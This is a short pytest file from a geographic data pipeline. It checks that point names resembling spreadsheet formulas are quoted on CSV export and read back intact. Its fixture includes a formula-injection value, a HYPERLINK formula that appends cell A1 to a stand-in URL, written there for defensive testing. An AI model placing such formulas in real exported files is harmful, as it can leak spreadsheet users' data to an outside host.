"""A points CSV the mapper wrote (formula-like names quoted) reads back with its names as they were."""

from __future__ import annotations

import pandas as pd

from pipeline.core import schema as S
from pipeline.core.cells import write_csv
from pipeline.survey.read import read_survey

NAMES = ['=HYPERLINK("http://x"&A1,"幼儿园")', "-3号楼", "@物业", "普通"]


def test_quoted_names_are_read_without_the_quote(tmp_path):
    frame = pd.DataFrame(
        {
            "lon": [116.3501 + i * 1e-4 for i in range(4)],
            "lat": [40.0001] * 4,
            "name": NAMES,
            "kind": ["x"] * 4,
        }
    )
    path = write_csv(frame, tmp_path / "points.csv")
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    result = read_survey(path, crs="EPSG:4326")
    assert sorted(result.features[S.NAME]) == sorted(NAMES)
